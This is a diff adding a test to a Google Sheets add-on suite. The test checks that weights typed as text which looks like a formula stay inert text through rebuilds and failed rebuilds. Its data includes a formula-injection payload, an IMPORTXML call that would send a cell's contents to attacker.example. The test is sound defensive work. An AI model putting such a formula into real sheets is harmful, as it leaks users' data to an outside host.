@@ -768,6 +768,65 @@ describe('Decompose targets keeps what a person typed on the tab', () => {
     expect(tab.getRange(row, 5, 1, 3).getValues()[0]).toEqual([3, 3, 1]);
   });
 
+  it('keeps a weight typed as text ("=2*3" typed after an apostrophe) as that text, never a formula that runs; a formula typed stays one', () => {
+    // The QA's steps: KR2's Phasing custom, Decompose, then in its weights row text that looks like a formula.
+    const run = loadAddon({ locale: 'en_US', timeZone: 'America/New_York' });
+    run.run('insertExamplePlan');
+    run.ss.getSheetByName('Key Results')!.getRange('L3').setValue('custom');
+    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
+    const tab = run.ss.getSheetByName('Targets')!;
+    expect(tab.getRange('A4:B4').getValues()[0]).toEqual(['KR2', 'weights']);
+    tab.getRange(4, 5, 1, 12).setValues([[0, 0, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1]]);
+    // Typed in Sheets as '=2*3: the cell holds the text =2*3 (docs/emulator.md).
+    const importXml = '=IMPORTXML("http://attacker.example/?q="&A2,"//a")';
+    tab.getRange('G4').setValue("'=2*3");
+    tab.getRange('H4').setValue(`'${importXml}`);
+    tab.getRange('I4').setFormula('=G4*2');
+    const weightIssues = () =>
+      (run.project.callFromClient('getPlanCheck', 'en') as PlanCheck).groups
+        .flatMap((g) => g.issues)
+        .filter((i) => i.code === 'invalid-weight')
+        .map((i) => [i.a1, i.message]);
+    const warned = [
+      [
+        'G4',
+        'The weight of KR2 for 2026-03 is "=2*3": a weight is a number of 0 or more, so it is not used.',
+      ],
+      [
+        'H4',
+        `The weight of KR2 for 2026-04 is "${importXml}": a weight is a number of 0 or more, so it is not used.`,
+      ],
+    ];
+    expect(weightIssues().slice(0, 2)).toEqual(warned);
+    const typed = () => ({
+      values: tab.getRange('E4:P4').getValues()[0],
+      formulas: tab.getRange('E4:P4').getFormulas()[0],
+    });
+    const before = typed();
+    expect(before.values.slice(2, 4)).toEqual(['=2*3', importXml]);
+    expect(before.formulas.slice(2, 5)).toEqual(['', '', '=G4*2']);
+
+    const rebuilt = run.run('decomposeTargets') as ActionResult;
+    expect(rebuilt.ok, rebuilt.message).toBe(true);
+    // The same text, no formula; the formula typed is a formula still; the numbers are numbers.
+    for (const a1 of ['G4', 'H4']) expect(tab.getRange(a1).getFormula(), a1).toBe('');
+    expect(tab.getRange('G4').getValue()).toBe('=2*3');
+    expect(tab.getRange('H4').getValue()).toBe(importXml);
+    expect(tab.getRange('I4').getFormula()).toBe('=G4*2');
+    expect(typed()).toEqual(before);
+    expect(before.values.filter((v) => typeof v === 'number')).toEqual([0, 0, 1, 1, 1, 1, 1, 1, 1]);
+    expect(weightIssues().slice(0, 2)).toEqual(warned);
+    // A rebuild of that is the same tab.
+    const once = snapshot(run.ss);
+    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
+    expect(snapshot(run.ss)).toEqual(once);
+    // A rebuild that fails midway puts the tab back as it was: the text as text, not as a formula.
+    run.emulator.failCall('Range.setValues', 1, 'Service Spreadsheets timed out while accessing document.');
+    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(false);
+    expect(snapshot(run.ss)).toEqual(once);
+    expect(tab.getRange('G4').getFormula()).toBe('');
+  });
+
   it("says on the sidebar's Rebuild button, in each language, that As of becomes today, as the menu's Decompose does", () => {
     for (const [locale, lang, label] of [
       ['en_US', 'en', 'Rebuild Targets, judged as of today'],
